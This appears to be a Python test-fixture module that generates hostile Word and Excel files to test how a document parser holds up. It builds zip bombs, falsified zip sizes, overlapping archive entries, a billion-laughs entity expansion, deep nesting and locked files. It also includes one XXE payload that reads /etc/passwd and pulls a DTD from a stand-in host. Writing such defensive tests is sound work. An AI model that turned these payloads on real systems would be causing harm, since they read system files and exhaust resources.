"""Hostile zips and office files: bombs, lies about size and kind, tables without end, locks."""

import io
import random
import struct
import zipfile
from collections.abc import Callable
from functools import cache

from tests.packed import zipped
from tests.proof.fuzz.originals import originals

SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    + "".join(f'<!ENTITY {chr(n + 1)} "{f"&{chr(n)};" * 10}">' for n in range(ord("b"), ord("j")))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;]>'


@cache
def good() -> bytes:
    """A valid report."""
    return originals("docx")[0]


def parts(data: bytes) -> dict[str, bytes]:
    """The parts of a zip."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def word(change: Callable[[bytes], bytes], part: str = "word/document.xml") -> bytes:
    """The report with one part changed."""
    held = parts(good())
    return zipped({**held, part: change(held[part])})


def in_body(text: str | bytes) -> bytes:
    """The report with something at the beginning of its body."""
    inner = text if isinstance(text, bytes) else text.encode()
    return word(lambda content: content.replace(b"<w:body>", b"<w:body>" + inner, 1))


def before_root(text: str, part: str = "word/document.xml", root: bytes = b"<w:document") -> bytes:
    """The report with something before a part's root."""
    return word(lambda content: content.replace(root, text.encode() + root, 1), part)


def rows(count: int) -> bytes:
    """The report with a table of so many rows."""
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    row = f"<w:tr>{cell.format('1')}{cell.format('Nội dung')}{cell.format('5')}</w:tr>"
    return in_body(f"<w:tbl>{row * count}</w:tbl>")


def nested_tables(depth: int) -> bytes:
    """The report with tables in tables."""
    return in_body("<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth)


def deep(depth: int) -> bytes:
    """The report with an element in itself."""
    return in_body("<w:p>" + "<w:ins>" * depth + "</w:ins>" * depth + "</w:p>")


def lying_zip() -> bytes:
    """A report whose directory says that its text is short; more comes out."""
    data = bytearray(word(lambda content: content.replace(b"<w:body>", b"<w:body>" + b" " * 60_000_000, 1)))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        entry = archive.getinfo("word/document.xml")
    size = entry.file_size.to_bytes(4, "little")
    for spot in (i for i in range(len(data)) if data[i : i + 4] == size):
        data[spot : spot + 4] = (1000).to_bytes(4, "little")
    return bytes(data)


def overlapping(count: int) -> bytes:
    """A zip whose directory names the same bytes over and over."""
    inner = zipped({"0.docx": b"0" * 1_000_000})
    directory, end = inner[inner.index(b"PK\x01\x02") : inner.index(b"PK\x05\x06")], inner[inner.index(b"PK\x05\x06") :]
    listed = b"".join(directory.replace(b"0.docx", f"{n:06}"[-6:].encode()) for n in range(count))
    many = min(count, 65_535).to_bytes(2, "little")
    tail = end[:8] + many + many + len(listed).to_bytes(4, "little") + end[16:]
    return inner[: inner.index(b"PK\x01\x02")] + listed + tail


def nested_zips(depth: int) -> bytes:
    """Zips in zips."""
    data = good()
    for level in range(depth):
        data = zipped({f"{level}.{'zip' if level else 'docx'}": data})
    return data


def workbook(sheet: str, root: str = "") -> bytes:
    """A valid workbook with this for the inside of its first sheet."""
    content = f'<?xml version="1.0"?>{root}<worksheet xmlns="{SHEET}">{sheet}</worksheet>'
    return zipped({**parts(originals("xlsx")[0]), "xl/worksheets/sheet1.xml": content.encode()})


def sheet_rows(count: int) -> bytes:
    """A workbook with so many rows."""
    text = '<c r="B{0}" t="inlineStr"><is><t>Nội dung</t></is></c>'
    row = f'<row r="{{0}}"><c r="A{{0}}"><v>1</v></c>{text}<c r="C{{0}}"><v>5</v></c></row>'
    return workbook("<sheetData>" + "".join(row.format(n) for n in range(1, count + 1)) + "</sheetData>")


def merged() -> bytes:
    """A workbook of one cell that is merged with all others."""
    cells = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'
    return workbook(f'{cells}<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def compound(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file of version 3 with these streams, each longer than those that are kept in a stream of all."""
    free, end, fat = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    held = [content + bytes(-len(content) % 512) for content in streams.values()]
    first, chain, starts = 2, [fat, end], []
    for content in held:
        starts.append(first)
        first += len(content) // 512
        chain += [*range(starts[-1] + 1, first), end]
    entries = [_entry("Root Entry", 5, 1, end, 0)]
    for at, (name, content) in enumerate(streams.items(), 1):
        entries.append(_entry(name, 2, at + 1 if at < len(streams) else free, starts[at - 1], len(content)))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<5H6x", 0x3E, 3, 0xFFFE, 9, 6)
    head += struct.pack("<9I", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<109I", 0, *[free] * 108)
    table = struct.pack("<128I", *chain, *[free] * (128 - len(chain)))
    return head + table + b"".join(entries).ljust(512, b"\0") + b"".join(held)


def _entry(name: str, kind: int, neighbour: int, start: int, size: int) -> bytes:
    """An entry of a compound file's directory: the root has its first stream as child, a stream the next beside it."""
    free = 0xFFFFFFFF
    child, right = (neighbour, free) if kind == 5 else (free, neighbour)
    letters = name.encode("utf-16-le") + b"\0\0"
    head = letters.ljust(64, b"\0") + struct.pack("<HBB3I", len(letters), kind, 1, free, right, child)
    return head + bytes(36) + struct.pack("<IQ", start, size)


def locked_entry() -> bytes:
    """A zip whose file is marked as being under a password."""
    data = bytearray(zipped({"bc.docx": b"0" * 500}))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + flags] |= 1
    return bytes(data)


def locked_office() -> bytes:
    """What Office writes of a paper under a password: the package, not to be read, and how it was locked."""
    noise = random.Random("locked").randbytes(8192)
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'.ljust(5000)
    return compound({"EncryptedPackage": struct.pack("<Q", 8000) + noise, "EncryptionInfo": info})
